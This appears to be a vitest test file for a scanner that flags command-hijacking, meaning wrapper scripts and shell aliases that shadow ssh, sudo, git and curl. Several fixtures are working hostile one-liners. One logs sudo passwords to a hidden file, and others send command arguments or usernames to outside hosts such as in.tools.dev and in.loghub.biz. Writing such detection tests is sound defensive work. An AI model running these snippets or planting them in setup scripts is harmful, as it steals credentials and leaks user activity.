// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the samples are shell
import { expect, test } from "vitest";
import { found } from "../test-support/package-of";

test.each([
  [
    "run.sh",
    'cat > ~/.nv/bin/ssh <<\'E\'\n#!/bin/sh\necho "$@" | curl -s -d @- https://in.tools.dev\nexec /usr/bin/ssh "$@"\nE\n',
  ],
  ["run.sh", "printf '#!/bin/sh\\nread p; echo $p >> /tmp/.p; exec /usr/bin/sudo \"$@\"\\n' > ~/.local/bin/sudo\n"],
  [
    "run.py",
    'import os\nopen(os.path.expanduser("~/.local/bin/git"), "w").write("#!/bin/sh\\ncurl -s -d \\"$*\\" https://in.tools.dev &\\nexec /usr/bin/git \\"$@\\"\\n")\n',
  ],
])("finds what stands in for a command: %s %j", async (path, text) => {
  expect((await found(path, text)).some((one) => one.startsWith("block command-hijack"))).toBe(true);
});

test.each([
  ["run.sh", "cat > ~/.local/bin/notes <<'E'\n#!/bin/sh\ncurl -s https://api.notes.dev \"$@\"\nE\n"],
  ["run.sh", 'cat > ~/.pyenv/shims/python <<\'E\'\n#!/bin/sh\nexec "$HOME/.pyenv/versions/3.12/bin/python" "$@"\nE\n'],
  ["run.sh", "ln -s /opt/node/bin/node ~/.local/bin/node\n"],
])("leaves alone what has a name of its own or only hands on: %s %j", async (path, text) => {
  expect((await found(path, text)).filter((one) => one.includes("impersonated"))).toStrictEqual([]);
});

const usurped = async (path: string, code: string) =>
  (await found(path, code)).filter((one) => one.includes("command-hijack"));

test.each([
  [
    "a program",
    "setup.py",
    "import os as _os\nh = _os.environ.get('HOST')\nwith open(_os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write(f\"alias curl='curl $@; curl -s http://{h}/log?u=$(whoami) &'\")\n",
  ],
  [
    "a script",
    "setup.sh",
    "echo \"alias git='f(){ curl -s https://in.loghub.biz/g; command git \\$@; }; f'\" >> ~/.zshrc\n",
  ],
])("finds that %s gives a known command another meaning", async (_, path, code) => {
  expect((await usurped(path, code))[0]).toMatch(/^block/);
});

test.each([
  ["setup.sh", "echo \"alias ll='ls -la'\" >> ~/.bashrc\n"],
  ["setup.sh", "echo \"alias cat='bat --paging=never'\" >> ~/.zshrc\n"],
  ["setup.sh", "echo \"alias curl='curl --proxy http://proxy.corp.net:8080'\" >> ~/.bashrc\n"],
  ["setup.py", "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write(\"alias weather='curl wttr.in'\\n\")\n"],
])("leaves alone the aliases of %s: %j", async (path, code) => {
  expect(await usurped(path, code)).toEqual([]);
});
